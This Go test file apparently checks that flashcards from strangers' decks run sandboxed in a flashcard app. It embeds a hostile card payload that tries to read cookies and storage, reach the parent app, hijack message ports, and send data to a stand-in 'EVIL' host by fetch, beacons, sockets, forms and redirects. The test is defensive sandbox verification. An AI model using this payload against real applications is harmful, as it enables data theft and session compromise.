package apptest_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/cardferry/cardferry/hostrunner/anki"
	"github.com/cardferry/cardferry/hostrunner/apptest"
	"github.com/cardferry/cardferry/hostrunner/browsertest"
)

// attack is what a hostile card tries; EVIL is an address that it wants to reach. Each try says what came of it.
const attack = `<p>a harmless card</p><img src="EVILimage"><link rel="stylesheet" href="EVILstyle"><style>p { background: url("EVILcss") }</style>
<iframe src="EVILframe"></iframe><object data="EVILobject"></object><form action="EVILform"><input name="x"></form>
<img src="x" onerror="window.handlerRan = true"><meta http-equiv="refresh" content="1;url=EVILrefresh">
<script>
window.tries = {};
(async () => {
  const attempt = async (name, f) => {
    try { const v = await f(); window.tries[name] = v === undefined ? "done" : String(v); } catch (e) { window.tries[name] = "refused"; }
  };
  const load = (e) => new Promise((r) => { e.onload = () => r("done"); e.onerror = () => r("refused"); document.body.append(e); setTimeout(r, 1000, "refused"); });
  await attempt("parent", () => parent.document.title);
  await attempt("app", () => top.document.body.innerHTML);
  await attempt("change the app", () => { top.location = "EVILtop"; });
  await attempt("storage", () => localStorage.length);
  await attempt("cookies", () => document.cookie);
  await attempt("files", () => navigator.storage.getDirectory());
  await attempt("database", () => new Promise((r, n) => { const q = indexedDB.open("cardferry"); q.onsuccess = r; q.onerror = n; }));
  await attempt("cache", () => caches.keys());
  await attempt("service worker", () => navigator.serviceWorker.register("EVILsw"));
  await attempt("fetch", () => fetch("EVILfetch"));
  await attempt("fetch app", () => fetch("/"));
  await attempt("beacon", () => { navigator.sendBeacon("EVILbeacon"); return Promise.reject(); }); // it says yes, and is stopped later
  await attempt("socket", () => new Promise((r, n) => { const s = new WebSocket("EVIL".replace("http", "ws")); s.onopen = r; s.onerror = n; }));
  await attempt("events", () => new Promise((r, n) => { const s = new EventSource("EVILevents"); s.onopen = r; s.onerror = n; }));
  await attempt("image", () => load(Object.assign(new Image(), { src: "EVILnew" })).then((v) => v === "refused" ? Promise.reject() : v));
  await attempt("script", () => load(Object.assign(document.createElement("script"), { src: "EVILscript" })).then((v) => v === "refused" ? Promise.reject() : v));
  await attempt("worker", () => new Promise((r, n) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = r; w.onerror = n; }));
  await attempt("window", () => open("EVILwindow") ?? Promise.reject());
  await attempt("webrtc", () => new RTCPeerConnection());
  await attempt("webrtc of a frame", () => new Promise((r, n) => {
    const f = document.createElement("iframe");
    f.srcdoc = "<script>parent.postMessage(String(new RTCPeerConnection()), '*')</scr" + "ipt>";
    addEventListener("message", (e) => r(e.data));
    document.body.append(f);
    setTimeout(n, 1000);
  }));
  await attempt("webrtc of a shadow", () => document.body.attachShadow({ mode: "open" }));
  await attempt("form", () => { document.forms[0].submit(); return Promise.reject(); });
  await attempt("the app's port", () => { MessagePort.prototype.postMessage = function () { window.stolen = this; }; document.body.click(); return window.stolen ? "stolen" : Promise.reject(); });
  await attempt("keys", () => { for (const key of ["Enter", "3", "u"]) dispatchEvent(new KeyboardEvent("keydown", { key, bubbles: true })); return Promise.reject(); });
  window.finished = true;
  setTimeout(() => { location = "EVILself"; }, 4000);
})();
</script>`

// TestHostileCards: a card from a stranger's deck runs its scripts, but reaches neither the app nor the network, and cannot answer itself.
func TestHostileCards(t *testing.T) {
	var hits atomic.Int64
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		t.Logf("a card has reached %s", r.URL)
	}))
	defer evil.Close()
	s := apptest.Serve(t)
	s.SignUp(t)
	desktop := apptest.NewDesktop(t, s)
	html := strings.ReplaceAll(attack, "EVIL", evil.URL+"/")
	desktop.Do(t, "add_note", anki.Args{"fields": []string{html, "back"}}, nil)
	desktop.Upload(t)

	a := apptest.Open(t, browsertest.Start(t), s.URL)
	a.Size(t, 360, 780, false)
	signIn(t, a)
	a.Tap(t, "Fetch my decks")
	a.Tap(t, "Study Default")
	a.ReadCard(t, "a harmless card")
	type result struct {
		Tries             map[string]string
		Finished, Handler bool
		Origin            string
	}
	var r result
	for !r.Finished {
		r = apptest.Card[result](t, a, `await new Promise((r) => setTimeout(r, 200));
			return { Tries: window.tries ?? {}, Finished: window.finished === true, Handler: window.handlerRan === true, Origin: self.origin }`)
	}
	if r.Origin != "null" {
		t.Errorf("a card has the origin %s", r.Origin)
	}
	for name, outcome := range r.Tries {
		if outcome != "refused" {
			t.Errorf("%s: %s", name, outcome)
		}
	}
	if len(r.Tries) < 20 {
		t.Errorf("only %d tries were made", len(r.Tries))
	}
	a.Read(t, "Show answer")                                   // the invented keys did nothing
	a.Wait(t, `new Promise((r) => setTimeout(r, 5000, true))`) // then the card goes elsewhere, which is stopped
	a.Tap(t, "Show answer")
	a.ReadCard(t, "back")
	if n := hits.Load(); n != 0 {
		t.Errorf("cards have made %d requests", n)
	}

	// The editor and the list show the same note, in the app's own page.
	a.Go(t, "#/browse")
	a.Tap(t, "a harmless card")
	a.Read(t, "edited as HTML")
	var ran bool
	a.Run(t, &ran, `return "tries" in window || "handlerRan" in window`)
	if n := hits.Load(); ran || n != 0 {
		t.Errorf("the editor has run scripts (%v) or made %d requests", ran, n)
	}
}
